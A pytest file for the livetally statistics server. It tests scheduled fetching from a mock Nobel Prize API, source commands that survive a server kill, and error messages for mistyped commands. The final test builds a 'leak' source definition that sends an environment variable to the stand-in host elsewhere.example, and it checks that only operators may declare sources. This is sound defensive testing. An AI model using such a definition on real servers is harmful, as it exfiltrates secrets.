"""Sources in a real server: fetched by themselves, commanded over HTTP and the command line.

In the flow: ``livetally serve`` fetches from a server in the Nobel Prize API's shape.
Guarantee: what a person said holds after the server was killed; no number counts twice.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest

from livetally.cli import main
from livetally.client import Client
from livetally.testing import Server
from tests.nobel import SOURCE, Nobel, nobel
from tests.waiting import until

PRIVATE = {"LIVETALLY_SOURCES_ALLOW_PRIVATE": "true", "LIVETALLY_QUERIES_PER_HOUR": "100000"}


@pytest.fixture(scope="module")
def api() -> Iterator[Nobel]:
    """The API."""
    with nobel() as said:
        yield said


@pytest.fixture(scope="module")
def server(api: Nobel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server that fetches every second."""
    file = tmp_path_factory.mktemp("nobel") / "nobel.toml"
    file.write_text(SOURCE.replace("URL", api.url).replace("5 minutes", "1 second"))
    with Server(definitions=[file], env=PRIVATE) as started:
        yield started


def source(server: Server) -> dict[str, Any]:
    """Return the source as the server shows it."""
    headers = {"Authorization": f"Bearer {server.key}"}
    reply = httpx2.get(f"{server.url}/v1/sources/nobel", headers=headers)
    assert reply.status_code == 200
    return dict(reply.json())


def cli(server: Server, *words: str) -> int:
    """Run a command of ``livetally sources``."""
    return main(["sources", *words, "--url", server.url, "--key", server.key])


def test_records_become_statistics_and_commands_hold(
    server: Server, api: Nobel, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every second; stopped over a kill; run once; another schedule; started again."""
    until(lambda: source(server).get("runs", 0) >= 3, "the third run")
    with Client(server.url, server.key) as client:
        rows = client.query("prizes", by=["category"]).rows
    assert sorted(row["value"] for row in rows) == [2, 2, 2, 2, 2]
    assert cli(server, "list") == 0
    assert "nobel" in capsys.readouterr().out
    assert cli(server, "stop", "nobel") == 0
    server.kill()
    server.start()
    state = source(server)
    assert (state["running"], state["next"], state["stored"]) == (False, None, 10)
    until(lambda: not source(server)["fetching"], "the run to end")
    runs = source(server)["runs"]
    assert cli(server, "run", "nobel") == 0
    until(lambda: source(server)["runs"] == runs + 1, "the one run")
    assert cli(server, "schedule", "nobel", "--every", "2 days") == 0
    assert source(server)["schedule"] == "every 2 days"
    assert cli(server, "start", "nobel", "--json") == 0
    assert json.loads(capsys.readouterr().out.splitlines()[-1])["running"] is True
    until(lambda: source(server)["runs"] == runs + 2, "the run at the start")
    assert cli(server, "schedule", "nobel", "--reset") == 0
    assert source(server)["schedule_of"] == "definition"
    state = source(server)
    assert (state["stored"], state["last_error"]) == (10, None)


@pytest.mark.parametrize(
    ("method", "path", "body", "status", "told"),
    [
        ("POST", "nobl/stop", None, 404, "did you mean 'nobel'?"),
        ("POST", "nobel/stopp", None, 404, "did you mean 'stop'?"),
        ("PATCH", "nobel", {"schedule": {"every": "5 minuts"}}, 400, "such as '30 seconds'"),
        ("PATCH", "nobel", {"schedule": {"cron": "* * *"}}, 400, "five fields"),
        ("PATCH", "nobel", {"schedule": {}}, 400, "give 'every' or 'cron'"),
        ("PATCH", "nobel", {"every": "1 day"}, 400, "every"),
    ],
    ids=str,
)
def test_a_wrong_command_is_told(
    server: Server, method: str, path: str, body: Any, status: int, told: str
) -> None:
    """By name and with what to do."""
    headers = {"Authorization": f"Bearer {server.key}"}
    url = f"{server.url}/v1/sources/{path}"
    reply = httpx2.request(method, url, headers=headers, json=body)
    assert reply.status_code == status
    assert told in reply.json()["detail"]


def test_the_shipped_definition_is_the_real_api(tmp_path: Path) -> None:
    """The example's source has the real address and passes the check."""
    file = tmp_path / "nobel.toml"
    file.write_text(SOURCE.replace("URL", "https://api.nobelprize.org"))
    assert main(["check", str(file)]) == 0


def test_only_operators_declare_sources(server: Server) -> None:
    """A team's administrator could send the server's environment to an address of their own."""
    definition = {
        "application": "leak",
        "event": {"sale": {}},
        "source": {
            "leak": {
                "url": "https://elsewhere.example/",
                "every": "1 day",
                "headers": {"Authorization": "env:HOME"},
                "map": {"type": "'sale'", "id": "id"},
            }
        },
    }
    operator = {"Authorization": f"Bearer {server.key}"}
    with httpx2.Client(base_url=server.url, trust_env=False) as client:
        client.post("/v1/teams", json={"name": "green"}, headers=operator)
        asked = {"team": "green", "name": "a", "scopes": ["admin"]}
        key = client.post("/v1/keys", json=asked, headers=operator).json()["key"]
        admin = {"Authorization": f"Bearer {key}"}
        refused = client.put("/v1/definitions/leak", json=definition, headers=admin)
        assert refused.status_code == 403
        assert "only an operator" in refused.json()["detail"]
        asked_for = {**operator, "X-Livetally-Team": "green"}
        taken = client.put("/v1/definitions/leak", json=definition, headers=asked_for)
        assert taken.status_code == 200, taken.text
